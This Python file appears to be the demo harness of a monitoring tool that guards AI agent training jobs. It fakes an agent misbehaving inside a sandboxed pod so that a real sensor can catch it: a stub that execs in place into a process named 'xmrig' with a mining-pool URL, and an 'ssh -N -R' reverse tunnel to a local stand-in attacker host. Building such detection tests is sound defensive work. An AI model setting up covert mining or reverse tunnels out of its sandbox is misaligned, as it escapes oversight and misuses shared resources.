"""One demo "pod": pid 1 of its own pid, network and mount namespaces (`unshare --net --pid --fork --mount-proc
--kill-child`), started by `trainguard demo` for one worker of the AgentTrainingJob.

It plays the workload (real processes, real sockets) and runs the REAL sensor beside it, as the pod's sidecar would:

- a trainer (`python3`, sleeping in a training loop) from the start;
- the sensor, bound to the pod's IP (on this namespace's own loopback; the demo forwards the host's pod IP to it);
- a stub (`python3`, waiting) started before the sensor, so that its pid is known: on `miner` it execs in place into
  `xmrig` (a symlink to the interpreter, so the kernel's comm is `xmrig`; the pid stays), the process that the
  replayed GPU trace puts on GPU 0 (the player writes the real pids into the trace before the sensor starts);
- on `tunnel`: a process named `ssh` whose command line is a reverse forward (`ssh -N -R ...`), holding a real TCP
  connection to the "attacker" listener at ATTACKER:22 (another network namespace, joined by a veth pair the demo
  creates; nothing leaves the machine).

The demo asks for a phase by creating the file `<workdir>/<phase>` (`miner`, `tunnel`); the player writes
`<workdir>/state.json` (pids, times) after each step. Pure standard library: it runs before anything else is set up.
"""

from __future__ import annotations

import json
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

#: What the trainer does: a training loop that mostly waits (the machine is shared).
TRAINER = "import time\nwhile True:\n    sum(i * i for i in range(20000))\n    time.sleep(0.2)\n"
#: What the miner does: a hash loop that mostly waits, named xmrig.
MINER = (
    "import hashlib, time\nh = b'rome'\nwhile True:\n"
    "    for _ in range(2000):\n        h = hashlib.sha256(h).digest()\n    time.sleep(0.2)\n"
)
#: The stub that becomes the miner: waits for its file, then execs in place (same pid) into xmrig.
STUB = (
    "import json, os, sys, time\nflag, spec = sys.argv[1:3]\n"
    "while not os.path.exists(flag):\n    time.sleep(0.05)\n"
    "argv = json.load(open(spec))\nos.execv(argv[0], argv)\n"
)
#: The tunnel: one TCP connection to the attacker, kept established, a few bytes a second each way.
TUNNEL = (
    "import socket, sys, time\n"
    "s = socket.create_connection((sys.argv[-1].split('@')[1], 22), timeout=10)\n"
    "s.settimeout(None)\n"
    "while True:\n    s.sendall(b'tunnel keepalive\\n')\n    s.recv(4096)\n    time.sleep(1)\n"
)


def _write_state(work: Path, state: dict[str, Any]) -> None:
    tmp = work / "state.json.tmp"
    tmp.write_text(json.dumps(state))
    tmp.replace(work / "state.json")


def _named(work: Path, name: str) -> str:
    """A path whose basename is `name` and that runs this interpreter (the kernel's comm is the basename)."""
    link = work / "bin" / name
    link.parent.mkdir(exist_ok=True)
    if not link.exists():
        link.symlink_to(sys.executable)
    return str(link)


def main(argv: list[str]) -> int:
    work, attacker = Path(argv[0]), argv[1]
    sensor_argv: list[str] = json.loads(argv[2])
    template = Path(argv[3])
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    children: list[subprocess.Popen[bytes]] = []

    def stop(_signum: int, _frame: object) -> None:
        for child in children:
            child.kill()
        sys.exit(0)

    signal.signal(signal.SIGTERM, stop)
    log = (work / "pod.log").open("ab")
    state: dict[str, Any] = {"started": time.time()}
    (work / "train.py").write_text(TRAINER)
    trainer = subprocess.Popen([_named(work, "python3"), "-u", str(work / "train.py"), "--env", "sandbox"])
    children.append(trainer)
    state["trainer"] = trainer.pid
    # What the stub becomes, in a file: its own command line must not give it away before the exec.
    (work / "miner.py").write_text(MINER)
    (work / "tunnel.py").write_text(TUNNEL)
    miner_argv = [_named(work, "xmrig"), str(work / "miner.py"), "-o", "stratum+tcp://pool.minexmr.example:4444"]
    (work / "stub.json").write_text(json.dumps(miner_argv))
    stub = subprocess.Popen([_named(work, "python3"), "-c", STUB, str(work / "miner"), str(work / "stub.json")])
    children.append(stub)
    state["stub"] = stub.pid
    trace = (
        template.read_text().replace('"pid": -1', f'"pid": {trainer.pid}').replace('"pid": -2', f'"pid": {stub.pid}')
    )
    (work / "gpu.jsonl").write_text(trace)
    sensor = subprocess.Popen(sensor_argv, stdout=log, stderr=log)
    children.append(sensor)
    state["sensor"] = sensor.pid
    _write_state(work, state)
    while True:
        for child in children:
            if child.poll() is not None and child is sensor:
                state["sensorExited"] = child.returncode
                _write_state(work, state)
        if "miner" not in state and (work / "miner").exists():
            state["miner"], state["minerAt"] = stub.pid, time.time()
            _write_state(work, state)
        if "tunnel" not in state and (work / "tunnel").exists():
            tunnel = subprocess.Popen(
                [_named(work, "ssh"), str(work / "tunnel.py"), "-N", "-R", "2222:localhost:22", f"agent@{attacker}"]
            )
            children.append(tunnel)
            state["tunnel"], state["tunnelAt"] = tunnel.pid, time.time()
            _write_state(work, state)
        time.sleep(0.05)


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
